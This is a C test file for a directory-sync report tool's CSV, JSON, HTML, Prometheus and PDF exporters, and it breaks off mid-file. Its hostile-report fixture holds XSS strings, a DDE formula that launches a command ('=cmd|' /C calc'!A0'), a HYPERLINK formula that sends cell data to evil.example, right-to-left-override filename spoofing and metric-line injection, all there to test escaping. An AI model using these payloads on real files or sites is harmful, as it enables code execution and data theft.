/* test-export.c — the file exports: golden output per format for demo-tenant
 * snapshots evaluated at a fixed time, hostile values in every format, the
 * JSON schema, and atomic writes that fail cleanly.
 *
 * DSC_UPDATE_GOLDEN=1 rewrites tests/data/golden/ from the current output.
 */
#include "config.h"

#include <errno.h>
#include <string.h>
#include <glib/gstdio.h>

#include "dsc-export-file.h"
#include "dsc-health.h"
#include "dsc-pdf-module.h"
#include "dsc-report-json.h"
#include "dsc-snapshot-json.h"
#include "dsc-test-object.h"

#define T0 1795460102 /* 2026-11-23T18:55:02Z */

static const char *const scenarios[] = {
  "healthy", "sync-errors", "stale-sync", "not-global-admin", "quota-near-limit",
};

static DscReport *
load_report (const char *scenario)
{
  g_autofree char *path = g_strdup_printf ("%s/snapshots/%s.json", TEST_DATADIR, scenario);
  dsc_autofinalize(JsonParser) parser = json_parser_new ();
  g_autoptr(DscSnapshot) snapshot = NULL;
  g_autoptr(DscConnectVersions) versions = dsc_connect_versions_get_default ();
  g_autoptr(GError) error = NULL;
  DscPolicy policy;

  json_parser_load_from_file (parser, path, &error);
  g_assert_no_error (error);
  snapshot = dsc_snapshot_from_json (json_parser_get_root (parser), &error);
  g_assert_no_error (error);
  dsc_policy_init_defaults (&policy);
  /* "now" is when the demo snapshot was taken: output depends on nothing else. */
  return dsc_health_evaluate (snapshot, &policy, versions, snapshot->taken_at);
}

static GBytes *
export_to_bytes (const DscReport *report, DscExportFormat format)
{
  dsc_autofinalize(GOutputStream) out = g_memory_output_stream_new_resizable ();
  g_autoptr(GError) error = NULL;

  g_assert_true (dsc_export_write (report, format, out, NULL, &error));
  g_assert_no_error (error);
  g_output_stream_close (out, NULL, NULL);
  return g_memory_output_stream_steal_as_bytes (G_MEMORY_OUTPUT_STREAM (out));
}

static char *
pdf_to_text (GBytes *pdf)
{
  g_autofree char *tmp = NULL;
  g_autofree char *text = NULL;
  g_autoptr(GError) error = NULL;
  int fd, status = 0;
  const char *argv[] = { "pdftotext", "-layout", NULL, "-", NULL };

  fd = g_file_open_tmp ("dsc-export-XXXXXX.pdf", &tmp, &error);
  g_assert_no_error (error);
  close (fd);
  g_file_set_contents (tmp, g_bytes_get_data (pdf, NULL), g_bytes_get_size (pdf), &error);
  g_assert_no_error (error);
  argv[2] = tmp;
  if (!g_spawn_sync (NULL, (char **) argv, NULL, G_SPAWN_SEARCH_PATH | G_SPAWN_STDERR_TO_DEV_NULL,
                     NULL, NULL, &text, NULL, &status, &error))
    text = NULL;
  g_unlink (tmp);
  if (text != NULL)
    g_assert_true (g_spawn_check_wait_status (status, NULL));
  return g_steal_pointer (&text);
}

static gboolean
have_pdftotext (void)
{
  g_autofree char *path = g_find_program_in_path ("pdftotext");

  return path != NULL;
}

/* Format names */

static void
test_format_names (void)
{
  DscExportFormat f;

  g_assert_true (dsc_export_format_from_name ("csv", &f));
  g_assert_cmpint (f, ==, DSC_EXPORT_FORMAT_CSV);
  g_assert_true (dsc_export_format_from_name ("PROMETHEUS", &f));
  g_assert_cmpint (f, ==, DSC_EXPORT_FORMAT_PROMETHEUS);
  g_assert_false (dsc_export_format_from_name ("xlsx", &f));
  g_assert_false (dsc_export_format_from_name (NULL, &f));

  g_assert_true (dsc_export_format_from_filename ("/tmp/r.HTM", &f));
  g_assert_cmpint (f, ==, DSC_EXPORT_FORMAT_HTML);
  g_assert_true (dsc_export_format_from_filename ("r.html", &f));
  g_assert_cmpint (f, ==, DSC_EXPORT_FORMAT_HTML);
  g_assert_true (dsc_export_format_from_filename ("dirsync.prom", &f));
  g_assert_cmpint (f, ==, DSC_EXPORT_FORMAT_PROMETHEUS);
  g_assert_true (dsc_export_format_from_filename ("a.b/report.pdf", &f));
  g_assert_cmpint (f, ==, DSC_EXPORT_FORMAT_PDF);
  g_assert_true (dsc_export_format_from_filename ("x.json", &f));
  g_assert_cmpint (f, ==, DSC_EXPORT_FORMAT_JSON);
  g_assert_true (dsc_export_format_from_filename ("x.csv", &f));
  g_assert_cmpint (f, ==, DSC_EXPORT_FORMAT_CSV);
  g_assert_false (dsc_export_format_from_filename ("report", &f));
  g_assert_false (dsc_export_format_from_filename ("dir.csv/report", &f));
  g_assert_false (dsc_export_format_from_filename ("report.txt", &f));

  for (guint i = 0; i < DSC_EXPORT_N_FORMATS; i++)
    {
      g_assert_true (dsc_export_format_from_name (dsc_export_format_to_name (i), &f));
      g_assert_cmpint (f, ==, i);
      g_assert_nonnull (dsc_export_format_get_label (i));
      g_assert_nonnull (dsc_export_format_get_mime_type (i));
    }
}

/* Goldens */

static void
check_golden (const char *scenario, DscExportFormat format, GBytes *bytes)
{
  g_autofree char *name = g_strdup_printf ("%s.%s", scenario,
                                           dsc_export_format_get_extension (format));
  g_autofree char *path = g_build_filename (TEST_DATADIR, "golden", name, NULL);
  g_autofree char *expected = NULL;
  g_autoptr(GError) error = NULL;
  gsize length;

  if (g_getenv ("DSC_UPDATE_GOLDEN") != NULL)
    {
      g_autofree char *dir = g_path_get_dirname (path);

      g_mkdir_with_parents (dir, 0755);
      g_file_set_contents (path, g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes),
                           &error);
      g_assert_no_error (error);
      return;
    }
  g_file_get_contents (path, &expected, &length, &error);
  g_assert_no_error (error);
  if (length != g_bytes_get_size (bytes) ||
      memcmp (expected, g_bytes_get_data (bytes, NULL), length) != 0)
    {
      g_autofree char *actual = g_strndup (g_bytes_get_data (bytes, NULL),
                                           g_bytes_get_size (bytes));
      g_auto(GStrv) want = g_strsplit (expected, "\n", -1);
      g_auto(GStrv) got = g_strsplit (actual, "\n", -1);
      guint line = 0;

      while (want[line] != NULL && got[line] != NULL && g_str_equal (want[line], got[line]))
        line++;
      g_test_message ("%s differs from the golden file at line %u (DSC_UPDATE_GOLDEN=1 "
                      "rewrites it):\n- %s\n+ %s", name, line + 1,
                      want[line] != NULL ? want[line] : "(end)",
                      got[line] != NULL ? got[line] : "(end)");
      g_test_fail ();
    }
}

static void
test_golden (gconstpointer data)
{
  const char *scenario = data;
  g_autoptr(DscReport) report = load_report (scenario);
  DscExportFormat formats[] = {
    DSC_EXPORT_FORMAT_CSV, DSC_EXPORT_FORMAT_JSON, DSC_EXPORT_FORMAT_HTML,
    DSC_EXPORT_FORMAT_PROMETHEUS,
  };

  for (guint i = 0; i < G_N_ELEMENTS (formats); i++)
    {
      g_autoptr(GBytes) bytes = export_to_bytes (report, formats[i]);

      check_golden (scenario, formats[i], bytes);
    }
}

/* The PDF's bytes depend on the cairo and font versions: check its text. */
static void
test_pdf_text (gconstpointer data)
{
  const char *scenario = data;
  g_autoptr(DscReport) report = load_report (scenario);
  g_autoptr(GBytes) bytes = export_to_bytes (report, DSC_EXPORT_FORMAT_PDF);
  g_autofree char *text = NULL;
  const DscTile *errors = dsc_report_get_tile (report, DSC_TILE_SYNC_ERRORS);

  g_assert_cmpmem (g_bytes_get_data (bytes, NULL), 5, "%PDF-", 5);
  if (!have_pdftotext ())
    {
      g_test_skip ("pdftotext (poppler-utils) is not installed");
      return;
    }
  {
    g_autofree char *raw = pdf_to_text (bytes);
    g_autoptr(GRegex) space = g_regex_new ("\\s+", 0, 0, NULL);

    g_assert_nonnull (raw);
    /* Lines wrap: compare words, not lines. */
    text = g_regex_replace_literal (space, raw, -1, 0, " ", 0, NULL);
  }
  g_assert_nonnull (strstr (text, report->snapshot->tenant_name));
  g_assert_nonnull (strstr (text, "Directory sync report"));
  g_assert_nonnull (strstr (text, "Page 1 of "));
  g_assert_nonnull (strstr (text, report->headline));
  g_assert_nonnull (strstr (text, dsc_status_to_label (report->overall)));
  if (errors->value != NULL)
    g_assert_nonnull (strstr (text, errors->value));
  g_assert_nonnull (strstr (text, "Generated 20"));
}

/* A big PDF breaks tables across pages and repeats their header. */
static DscReport *make_hostile_report (guint n_objects);

static void
test_pdf_paginates (void)
{
  g_autoptr(DscReport) report = make_hostile_report (400);
  g_autoptr(GBytes) bytes = export_to_bytes (report, DSC_EXPORT_FORMAT_PDF);
  g_autofree char *text = NULL;
  g_auto(GStrv) pages = NULL;
  guint n_pages, first, with_rows = 0;
  g_autofree char *last = NULL;

  if (!have_pdftotext ())
    {
      g_test_skip ("pdftotext (poppler-utils) is not installed");
      return;
    }
  text = pdf_to_text (bytes);
  pages = g_strsplit (text, "\f", -1);
  n_pages = g_strv_length (pages) - 1;   /* text ends with a form feed */
  g_assert_cmpuint (n_pages, >=, 5);
  last = g_strdup_printf ("Page %u of %u", n_pages, n_pages);
  g_assert_nonnull (strstr (pages[n_pages - 1], last));
  /* From the page where the objects table starts, every page holds it: its
   * header repeats. */
  first = 0;
  while (first < n_pages && strstr (pages[first], "UPN or mail") == NULL)
    first++;
  g_assert_cmpuint (first, <, 4);
  for (guint i = 0; i < n_pages; i++)
    {
      g_autofree char *page = g_strdup_printf ("Page %u of %u", i + 1, n_pages);

      g_assert_nonnull (strstr (pages[i], page));
      g_assert_nonnull (strstr (pages[i], "Contoso <Evil>"));
      /* object rows: "+userN@contoso.com" */
      if (i >= first && strstr (pages[i], "+user") != NULL)
        {
          g_assert_nonnull (strstr (pages[i], "UPN or mail"));
          with_rows++;
        }
    }
  g_assert_cmpuint (with_rows, >=, 5);
}

/* Hostile values */

#define RLO "\xe2\x80\xae"

static DscReport *
make_hostile_report (guint n_objects)
{
  g_autoptr(DscSnapshot) s = dsc_snapshot_new ();
  g_autoptr(GString) long_name = g_string_new (NULL);
  DscReport *report;
  DscFinding *f;
  const char *steps[] = { "<script>alert(1)</script>", "=cmd|' /C calc'!A0", NULL };

  s->taken_at = T0;
  s->tenant_name = g_strdup ("Contoso <Evil> \"Ltd\" & =HYPERLINK(\"http://x\")");
  s->tenant_id = g_strdup ("t-1\n# HELP fake");
  s->initial_domain = g_strdup ("contoso.onmicrosoft.com");
  s->graph_host = g_strdup ("graph.microsoft.com");
  s->last_sync = T0 - 3600;
  for (guint i = 0; i < DSC_N_SOURCES; i++)
    dsc_snapshot_set_source (s, i, DSC_SOURCE_STATE_OK, NULL, NULL, NULL);
  for (guint i = 0; i < 10000; i++)
    g_string_append_c (long_name, "abcdefghij"[i % 10]);

  report = dsc_report_new (s, T0);
  for (guint i = 0; i < DSC_N_TILES; i++)
    {
      report->tiles[i].status = DSC_STATUS_WARNING;
      report->tiles[i].title = g_strdup ("<img src=x onerror=alert(1)>");
      report->tiles[i].value = g_strdup ("=1+1");
    }
  f = dsc_report_add_finding (report, DSC_CATEGORY_OBJECT_ERRORS, DSC_STATUS_ERROR,
                              "object-errors/ProxyAddress/<script>",
                              "<script>alert('x')</script> is claimed by 2 objects",
                              "Detail with " RLO "gpj.exe and invalid \xff\xfe UTF-8");
  dsc_finding_set_fix_steps (f, steps);
  /* A conflict's diagnosis and links reach CSV and HTML too. */
  dsc_finding_set_diagnosis (f, "decide", g_strdup ("=cmd|' /C calc'!A0"),
                             g_strdup ("-Advice <b>bold</b>"));
  for (guint i = 0; i < n_objects; i++)
    {
      g_autoptr(DscDirectoryObject) o = dsc_directory_object_new (i % 3);

      o->id = g_strdup_printf ("id-%u", i);
      switch (i % 5)
        {
        case 0:
          o->display_name = g_strdup ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
          break;
        case 1:
          o->display_name = g_strdup ("Adele " RLO "fdp.exe");
          break;
        case 2:
          o->display_name = g_strdup (long_name->str);
          break;
        case 3:
          o->display_name = g_strdup ("Bad \xc3\x28 UTF-8 \xed\xa0\x80 surrogate");
          break;
        default:
          o->display_name = g_strdup ("@SUM(1+1)\t<script>alert(1)</script>");
          break;
        }
      o->user_principal_name = g_strdup_printf ("+user%u@contoso.com", i);
      o->mail = g_strdup ("-2+3");
      dsc_finding_add_object (f, o, i % 2 ? "ProxyAddress" : "Evil\"Attr\\\n",
                              "\rsmtp:sales@contoso.com", T0 - 60, i % 2 == 0)->admin_url =
        g_strdup ("https://entra.example/#\"><script>alert(1)</script>");
      dsc_directory_object_add_error (o, "PropertyConflict",
                                      i % 2 ? "ProxyAddress" : "Evil\"Attr\\\n",
                                      "\rsmtp:sales@contoso.com", T0 - 60);
      g_ptr_array_add (report->snapshot->objects, dsc_directory_object_ref (o));
    }
  dsc_report_add_finding (report, DSC_CATEGORY_NO_RECENT_SYNC, DSC_STATUS_WARNING,
                          "no-recent-sync/stale", "=HYPERLINK(\"x\")", NULL);
  dsc_report_finish (report);
  return report;
}

static void
assert_no_rlo_and_valid (const char *text, gsize length)
{
  g_assert_true (g_utf8_validate (text, length, NULL));
  g_assert_null (g_strstr_len (text, length, RLO));
}

static void
test_hostile_csv (void)
{
  g_autoptr(DscReport) report = make_hostile_report (10);
  g_autoptr(GBytes) bytes = export_to_bytes (report, DSC_EXPORT_FORMAT_CSV);
  gsize length;
  const char *text = g_bytes_get_data (bytes, &length);
  g_autofree char *copy = g_strndup (text, length);
  g_auto(GStrv) lines = NULL;

  assert_no_rlo_and_valid (text, length);
  g_assert_true (g_str_has_prefix (copy, "\xef\xbb\xbf" "category,severity,finding,object type,"
                                   "display name,UPN,mail,object id,attribute,value,in error,"
                                   "since,on-premises DN,suggested fix,role,diagnosis,advice,"
                                   "admin center\r\n"));
  /* The conflict's columns: role, diagnosis and advice neutralized. */
  g_assert_nonnull (strstr (copy, ",quarantined,'=cmd|' /C calc'!A0,'-Advice <b>bold</b>,"
                                  "\"https://entra.example/#\"\"><script>"));
  /* Every cell that a spreadsheet would evaluate starts with a quote. */
  g_assert_nonnull (strstr (copy, ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,"
                                  "\"\"Click\"\")\","));
  g_assert_nonnull (strstr (copy, ",'+user0@contoso.com,'-2+3,"));
  /* Quoted: LibreOffice splits at tabs and ';' by default. */
  g_assert_nonnull (strstr (copy, ",\"'@SUM(1+1)\t<script>alert(1)</script>\","));
  g_assert_nonnull (strstr (copy, ",\"'\rsmtp:sales@contoso.com\","));
  g_assert_nonnull (strstr (copy, "2026-11-23T18:54:02Z,,,"));
  g_assert_null (strstr (copy, ",=")); g_assert_null (strstr (copy, ",+"));
  g_assert_null (strstr (copy, ",-")); g_assert_null (strstr (copy, ",@"));
  g_assert_null (strstr (copy, ",\"=")); g_assert_null (strstr (copy, ",\"+"));
  /* The 10 000-character name is kept whole. */
  g_assert_nonnull (strstr (copy, ",abcdefghij"));
  lines = g_strsplit (copy, "\r\n", -1);
  /* header + 10 object rows + 1 finding without objects + a row for each
   * warning tile whose category had no finding (the report adds one each, so
   * the file says why: all tiles but the two whose categories have findings)
   * + trailing "" */
  g_assert_cmpuint (g_strv_length (lines), ==, 1 + 10 + 1 + (DSC_N_TILES - 2) + 1);
}

static void
test_hostile_html (void)
{
  g_autoptr(DscReport) report = make_hostile_report (10);
  g_autoptr(GBytes) bytes = export_to_bytes (report, DSC_EXPORT_FORMAT_HTML);
  gsize length;
  const char *text = g_bytes_get_data (bytes, &length);
  g_autofree char *copy = g_strndup (text, length);
  g_autofree char *lower = g_ascii_strdown (copy, -1);
  const char *p;

  assert_no_rlo_and_valid (text, length);
  g_assert_null (strstr (lower, "<script"));
  g_assert_null (strstr (lower, "<img"));
  g_assert_null (strstr (lower, "javascript:"));
  /* No tag carries a source or an event handler. */
  g_assert_false (g_regex_match_simple ("<[^>]*\\s(src|on[a-z]+)\\s*=", lower, 0, 0));
  g_assert_nonnull (strstr (copy, "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;"));
  g_assert_nonnull (strstr (copy, "Contoso &lt;Evil&gt; &quot;Ltd&quot; &amp;"));
  /* Nothing remote: every href is https and no stylesheet or image is linked. */
  for (p = strstr (lower, "href="); p != NULL; p = strstr (p + 1, "href="))
    g_assert_true (g_str_has_prefix (p, "href=\"https://"));
  g_assert_null (strstr (lower, "<link"));
  g_assert_null (strstr (lower, "@import"));
  g_assert_null (strstr (lower, "url("));
  g_assert_nonnull (strstr (lower, "content-security-policy"));
}

static void
test_hostile_json (void)
{
  g_autoptr(DscReport) report = make_hostile_report (10);
  g_autoptr(GBytes) bytes = export_to_bytes (report, DSC_EXPORT_FORMAT_JSON);
  dsc_autofinalize(JsonParser) parser = json_parser_new ();
  g_autoptr(GError) error = NULL;
  gsize length;
  const char *text = g_bytes_get_data (bytes, &length);

  g_assert_true (g_utf8_validate (text, length, NULL));
  json_parser_load_from_data (parser, text, length, &error);
  g_assert_no_error (error);
  g_assert_true (JSON_NODE_HOLDS_OBJECT (json_parser_get_root (parser)));
}

static void
test_hostile_prometheus (void)
{
  g_autoptr(DscReport) report = make_hostile_report (10);
  g_autoptr(GBytes) bytes = export_to_bytes (report, DSC_EXPORT_FORMAT_PROMETHEUS);
  gsize length;
  const char *text = g_bytes_get_data (bytes, &length);
  g_autofree char *copy = g_strndup (text, length);
  g_auto(GStrv) lines = g_strsplit (copy, "\n", -1);
  g_autoptr(GRegex) sample = g_regex_new ("^[a-z_]+(\\{([a-z_]+=\"([^\"\\\\\\n]|\\\\[\\\\\"n])*\""
                                          ",?)*\\})? -?[0-9.]+$", 0, 0, NULL);
  g_autoptr(GRegex) comment = g_regex_new ("^# (HELP|TYPE) [a-z_]+ .+$", 0, 0, NULL);

  assert_no_rlo_and_valid (text, length);
  for (guint i = 0; lines[i] != NULL; i++)
    {
      if (lines[i][0] == '\0')
        {
          g_assert_null (lines[i + 1]);
          continue;
        }
      if (!g_regex_match (lines[i][0] == '#' ? comment : sample, lines[i], 0, NULL))
        g_error ("not exposition format: %s", lines[i]);
    }
  g_assert_nonnull (strstr (copy, "tenant_id=\"t-1\\n# HELP fake\""));
  g_assert_nonnull (strstr (copy, "dirsync_conflicts{attribute=\"ProxyAddress\"} 5\n"));
  g_assert_nonnull (strstr (copy, "dirsync_conflicts{attribute=\"Evil\\\"Attr\\\\\\n\"} 5\n"));
  g_assert_nonnull (strstr (copy, "dirsync_objects_in_error{kind=\"user\"} 4\n"));
  g_assert_nonnull (strstr (copy, "dirsync_tile_status{tile=\"last-sync\"} 1\n"));
  /* The object errors' error finding makes its category, its tile and the
   * overall verdict an error: one status everywhere. */
  g_assert_cmpint (report->overall, ==, DSC_STATUS_ERROR);
  g_assert_nonnull (strstr (copy, "dirsync_tile_status{tile=\"sync-errors\"} 2\n"));
  g_assert_nonnull (strstr (copy, "dirsync_overall_status 2\n"));
}

static void
test_hostile_pdf (void)
{
  g_autoptr(DscReport) report = make_hostile_report (10);
  g_autoptr(GBytes) bytes = export_to_bytes (report, DSC_EXPORT_FORMAT_PDF);
  g_autofree char *text = NULL;

  g_assert_cmpmem (g_bytes_get_data (bytes, NULL), 5, "%PDF-", 5);
  if (!have_pdftotext ())
    {
      g_test_skip ("pdftotext (poppler-utils) is not installed");
      return;
    }
  text = pdf_to_text (bytes);
  g_assert_nonnull (text);
  g_assert_nonnull (strstr (text, "<script>alert('x')</script>"));
  g_assert_null (strstr (text, RLO));
}

/* Object cells of plain ASCII are shaped and drawn without a PangoLayout
 * (dsc-export-pdf.c): their text must come out of the PDF as with one,
 * ligatures ("fi", "ffi") and values cut with "…" included. */
static void
test_pdf_ascii_cells (void)
{
  g_autoptr(DscSnapshot) s = dsc_snapshot_new ();
  g_autoptr(DscReport) report = NULL;
  g_autoptr(GBytes) bytes = NULL;
  g_autofree char *text = NULL;
  DscFinding *f;

  if (!have_pdftotext ())
    {
      g_test_skip ("pdftotext (poppler-utils) is not installed");
      return;
    }
  s->taken_at = T0;
  s->tenant_name = g_strdup ("Contoso");
  for (guint i = 0; i < DSC_N_SOURCES; i++)
    dsc_snapshot_set_source (s, i, DSC_SOURCE_STATE_OK, NULL, NULL, NULL);
  report = dsc_report_new (s, T0);
  f = dsc_report_add_finding (report, DSC_CATEGORY_OBJECT_ERRORS, DSC_STATUS_ERROR,
                              "object-errors/x", "Conflict", NULL);
  for (guint i = 0; i < 3; i++)
    {
      g_autoptr(DscDirectoryObject) o = dsc_directory_object_new (DSC_OBJECT_USER);

      o->id = g_strdup_printf ("id-%u", i);
      o->display_name = g_strdup (i == 0 ? "Official Griffin" : "Zo\xc3\xab Waffle");
      o->user_principal_name = g_strdup_printf ("a.very.long.principal.name.%u.that.is.cut"
                                                "@contoso.com", i);
      dsc_finding_add_object (f, o, "fluffy", "", T0 - 60, TRUE);
      g_ptr_array_add (report->snapshot->objects, dsc_directory_object_ref (o));
    }
  dsc_report_finish (report);
  bytes = export_to_bytes (report, DSC_EXPORT_FORMAT_PDF);
  text = pdf_to_text (bytes);
  g_assert_nonnull (text);
  g_assert_nonnull (strstr (text, "Official Griffin"));
  /* Not ASCII: laid out by Pango, in the same row as ASCII cells. */
  g_assert_nonnull (strstr (text, "Zo\xc3\xab Waffle"));
  g_assert_nonnull (strstr (text, "fluffy"));
  g_assert_nonnull (strstr (text, "a.very.long.princ"));
  g_assert_nonnull (strstr (text, "…"));
  g_assert_null (strstr (text, "is.cut@contoso.com"));
  g_assert_nonnull (strstr (text, "2026-11-23"));
}

/* The JSON export is the schema's document. */
static void
test_json_schema (void)
{
  g_autoptr(DscReport) report = load_report ("sync-errors");
  g_autoptr(GBytes) bytes = export_to_bytes (report, DSC_EXPORT_FORMAT_JSON);
  dsc_autofinalize(JsonParser) parser = json_parser_new ();
  dsc_autofinalize(JsonParser) schema_parser = json_parser_new ();
  g_autoptr(GError) error = NULL;
  g_autofree char *schema_path = NULL;
  const char *datadir = g_getenv ("DSC_DATADIR");
  JsonObject *root, *schema;
  JsonArray *required;

  json_parser_load_from_data (parser, g_bytes_get_data (bytes, NULL),
                              g_bytes_get_size (bytes), &error);
  g_assert_no_error (error);
  schema_path = g_build_filename (datadir != NULL ? datadir : SOURCE_DATADIR,
                                  "report.schema.json", NULL);
  json_parser_load_from_file (schema_parser, schema_path, &error);
  g_assert_no_error (error);
  root = json_node_get_object (json_parser_get_root (parser));
  schema = json_node_get_object (json_parser_get_root (schema_parser));
  required = json_object_get_array_member (schema, "required");
  for (guint i = 0; i < json_array_get_length (required); i++)
    g_assert_true (json_object_has_member (root, json_array_get_string_element (required, i)));
  {
    g_autoptr(GList) members = json_object_get_members (root);
    JsonObject *properties = json_object_get_object_member (schema, "properties");

    for (GList *l = members; l != NULL; l = l->next)
      g_assert_true (json_object_has_member (properties, l->data));
  }
  /* Identical to what --check --format json prints. */
  {
    g_autoptr(JsonNode) node = dsc_report_to_json (report);

    g_assert_true (json_node_equal (node, json_parser_get_root (parser)));
  }
}

/* The JSON export is written by hand, streaming (dsc-export-json.c): it must
 * stay the bytes json-glib's generator makes of the same document (parsed
 * back by dsc_report_to_json()), with invalid UTF-8 repaired, pretty below
 * 10 000 objects and compact above. The members themselves are checked in
 * test-report-format.c and by the goldens. */
static void
make_valid (JsonNode *node)
{
  if (JSON_NODE_HOLDS_OBJECT (node))
    {
      JsonObjectIter iter;
      JsonNode *member;

      json_object_iter_init (&iter, json_node_get_object (node));
      while (json_object_iter_next (&iter, NULL, &member))
        make_valid (member);
    }
  else if (JSON_NODE_HOLDS_ARRAY (node))
    {
      JsonArray *array = json_node_get_array (node);

      for (guint i = 0; i < json_array_get_length (array); i++)
        make_valid (json_array_get_element (array, i));
    }
  else if (json_node_get_value_type (node) == G_TYPE_STRING &&
           !g_utf8_validate (json_node_get_string (node), -1, NULL))
    {
      g_autofree char *valid = g_utf8_make_valid (json_node_get_string (node), -1);

      json_node_set_string (node, valid);
    }
}

static void
assert_json_as_generator (const DscReport *report, gboolean pretty)
{
  g_autoptr(GBytes) bytes = export_to_bytes (report, DSC_EXPORT_FORMAT_JSON);
  g_autoptr(JsonNode) node = dsc_report_to_json (report);
  dsc_autofinalize(JsonGenerator) generator = json_generator_new ();
  g_autoptr(GString) expected = g_string_new (NULL);
  gsize length;
  const char *actual = g_bytes_get_data (bytes, &length);
  gsize i = 0;

  make_valid (node);
  json_generator_set_pretty (generator, pretty);
  json_generator_set_root (generator, node);
  json_generator_to_gstring (generator, expected);
  g_string_append_c (expected, '\n');

  /* Not g_assert_cmpmem: the big report is megabytes. */
  while (i < length && i < expected->len && actual[i] == expected->str[i])
    i++;
  if (i != length || i != expected->len)
    g_error ("JSON export differs from json-glib at byte %" G_GSIZE_FORMAT ": “%.60s” "
             "instead of “%.60s”", i, actual + MIN (i, length), expected->str + i);
}

static void
test_json_as_generator (void)
{
  for (guint i = 0; i < G_N_ELEMENTS (scenarios); i++)
    {
      g_autoptr(DscReport) report = load_report (scenarios[i]);

      assert_json_as_generator (report, TRUE);
    }
  {
    g_autoptr(DscReport) report = make_hostile_report (10);

    /* Every control character json-glib escapes (\x1f aside, see below). */
    g_free (report->tiles[0].summary);
    report->tiles[0].summary = g_strdup ("\x01\x02\b\t\n\x0b\f\r\x1b\x1e\x7f \\ \" /");
    assert_json_as_generator (report, TRUE);
  }
  {
    g_autoptr(DscReport) report = make_hostile_report (10);

    /* Values are scanned eight bytes at a time: escapes, non-ASCII and
     * invalid UTF-8 on and across those boundaries, and short tails. */
    g_free (report->tiles[0].summary);
    report->tiles[0].summary = g_strdup ("0123456\"89abcdef\xc3\xa9\x01ghijklmnop\\qrstuvw\x7f"
                                         "xyz\t");
    g_free (report->tiles[0].value);
    report->tiles[0].value = g_strdup ("abcdefgh\xff\xfeijklmnopq\"rs");
    g_free (report->tiles[0].title);
    report->tiles[0].title = g_strdup ("\xe2\x80\x94\xe2\x80\x94\xe2\x80\x94 \"");
    assert_json_as_generator (report, TRUE);
  }
  {
    g_autoptr(DscReport) report = make_hostile_report (10000);

    assert_json_as_generator (report, FALSE);
  }
  {
    /* Times are written from a date made once per day: midnight, the last
     * second of a day, several on one day, before 1970, the year 9999. */
    static const gint64 times[] = {
      T0, T0 + 1, T0 + 59, T0 + 3600, 1795392000, 1795392000 + 86399, 1795392000 - 1,
      86400, 1, -1, -86400 * 365, G_GINT64_CONSTANT (253402300799),
    };
    g_autoptr(DscReport) report = make_hostile_report (G_N_ELEMENTS (times));
    const DscFinding *finding = dsc_report_find (report, "object-errors/ProxyAddress/<script>");

    g_assert_nonnull (finding);
    g_assert_cmpuint (finding->objects->len, ==, G_N_ELEMENTS (times));
    for (guint i = 0; i < G_N_ELEMENTS (times); i++)
      ((DscAffectedObject *) g_ptr_array_index (finding->objects, i))->since = times[i];
    assert_json_as_generator (report, TRUE);
  }
}

/* json-glib 1.6 writes U+001F raw, which is not JSON (RFC 8259 wants every
 * character below U+0020 escaped): the export escapes it. */
static void
test_json_escapes_unit_separator (void)
{
  g_autoptr(DscReport) report = make_hostile_report (1);
  g_autoptr(GBytes) bytes = NULL;
  gsize length;
  const char *text;

  g_free (report->tiles[0].summary);
  report->tiles[0].summary = g_strdup ("a\x1f" "b");
  bytes = export_to_bytes (report, DSC_EXPORT_FORMAT_JSON);
  text = g_bytes_get_data (bytes, &length);
  g_assert_null (memchr (text, 0x1f, length));
  g_assert_nonnull (g_strstr_len (text, length, "\"a\\u001fb\""));
}

/* Writing files */

static char *
make_tmpdir (void)
{
  g_autoptr(GError) error = NULL;
  char *dir = g_dir_make_tmp ("dsc-export-XXXXXX", &error);

  g_assert_no_error (error);
  return dir;
}

static guint
count_entries (const char *dir)
{
  g_autoptr(GDir) d = g_dir_open (dir, 0, NULL);
  guint n = 0;

  while (g_dir_read_name (d) != NULL)
    n++;
  return n;
}

static void
remove_tree (const char *dir)
{
  g_autoptr(GDir) d = g_dir_open (dir, 0, NULL);
  const char *name;

  while ((name = g_dir_read_name (d)) != NULL)
    {
      g_autofree char *path = g_build_filename (dir, name, NULL);
      g_unlink (path);
    }
  g_rmdir (dir);
}

static void
test_file_unwritable (void)
{
  g_autoptr(DscReport) report = load_report ("healthy");
  g_autofree char *dir = make_tmpdir ();
  g_autofree char *blocker = g_build_filename (dir, "not-a-dir", NULL);
  g_autofree char *path = g_build_filename (blocker, "report.html", NULL);
  dsc_autofinalize(GFile) file = g_file_new_for_path (path);
  g_autoptr(GError) error = NULL;

  /* A parent that is a file cannot hold the report (EACCES doesn't stop root). */
  g_file_set_contents (blocker, "", -1, &error);
  g_assert_no_error (error);
  g_assert_false (dsc_export_to_file (report, DSC_EXPORT_FORMAT_HTML, file, NULL, &error));
  g_assert_nonnull (error);
  g_test_message ("%s", error->message);
  g_assert_true (g_str_has_prefix (error->message, "Couldn't save the report to “"));
  g_assert_nonnull (strstr (error->message, "report.html"));
  remove_tree (dir);
}

static void
test_disk_full (void)
{
  g_autoptr(DscReport) report = make_hostile_report (2000);
  dsc_autofinalize(GFile) full = g_file_new_for_path ("/dev/full");
  g_autoptr(GError) error = NULL;

  if (!g_file_test ("/dev/full", G_FILE_TEST_EXISTS))
    {
      g_test_skip ("no /dev/full");
      return;
    }
  /* g_file_replace refuses a device ("not a regular file"), so the writer is
   * tested on a plain stream to /dev/full for every format. */
  for (guint f = 0; f < DSC_EXPORT_N_FORMATS; f++)
    {
      g_autoptr(GFileOutputStream) out = g_file_append_to (full, G_FILE_CREATE_NONE, NULL,
                                                           &error);

      g_assert_no_error (error);
      g_assert_false (dsc_export_write (report, f, G_OUTPUT_STREAM (out), NULL, &error));
      g_assert_error (error, G_IO_ERROR, G_IO_ERROR_NO_SPACE);
      g_test_message ("%s: %s", dsc_export_format_to_name (f), error->message);
      g_assert_true (g_str_has_prefix (error->message, "Couldn't write the report: "));
      g_assert_nonnull (strstr (error->message, g_strerror (ENOSPC)));
      g_clear_error (&error);
    }
  /* And through the file API: a clear refusal, nothing written. */
  g_assert_false (dsc_export_to_file (report, DSC_EXPORT_FORMAT_CSV, full, NULL, &error));
  g_assert_nonnull (error);
  g_assert_true (g_str_has_prefix (error->message, "Couldn't save the report to “/dev/full”"));
}

static void
export_done (GObject *source, GAsyncResult *result, gpointer data)
{
  GError **error = data;

  g_assert_null (source);
  if (!dsc_export_report_finish (result, error))
    g_assert_nonnull (*error);
  else
    *error = g_error_new_literal (G_IO_ERROR, 0, "ok");
}

static void
